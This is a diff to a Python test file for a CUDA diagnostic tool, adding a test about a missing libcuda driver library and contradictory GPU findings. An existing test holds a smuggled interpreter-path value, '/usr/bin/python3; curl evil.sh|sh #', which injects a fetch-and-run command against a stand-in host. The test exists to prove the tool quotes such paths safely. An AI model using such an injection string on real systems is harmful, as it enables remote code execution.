@@ -15,7 +15,7 @@ from cudadoctor.facts.paste import PasteFacts, PasteHit
 from cudadoctor.model import Severity
 from cudadoctor.rules import evaluate
 from tests.facts_fixtures import driver_ok, gpu, healthy, linux, no_driver, torch_cpu, torch_cuda
-from tests.helpers import by_code, commands
+from tests.helpers import by_code, codes, commands
 
 CU13X = "7.5 8.0 8.6 9.0 10.0 12.0+PTX"
 CU126 = "5.0 6.0 7.0 7.5 8.0 8.6 9.0"
@@ -341,3 +341,17 @@ def test_a_replayed_interpreter_path_cannot_run_code_when_pasted() -> None:
     """Someone else's saved report: its path is a name in the fix, never a second command."""
     cmds = _cpu_torch_fix_commands("/usr/bin/python3; curl evil.sh|sh #")
     assert cmds and all(c.startswith("'/usr/bin/python3; curl evil.sh|sh #' -m pip") for c in cmds)
+
+
+def test_cuda_sees_no_gpu_when_libcuda_is_missing_so_cd300_is_not_said():
+    """New-user trial: with libcuda missing (CD121), "CUDA sees 4 of 4 GPUs" (CD300) contradicted it."""
+    from cudadoctor.facts import CudaDriverFacts
+    from cudadoctor.rules import evaluate
+
+    devices = [gpu(i, "NVIDIA A100-SXM4-80GB", "8.0") for i in range(4)]
+    facts = healthy(devices)
+    facts.cuda_driver = CudaDriverFacts(library_found=False, load_error="libcuda.so.1: cannot open shared object file")
+    found = codes(evaluate(facts, []))
+    assert "CD121" in found and "CD300" not in found
+    facts.cuda_driver = None  # not probed: what CUDA sees is CUDA_VISIBLE_DEVICES' mapping, shown as before
+    assert "CD300" in codes(evaluate(facts, []))
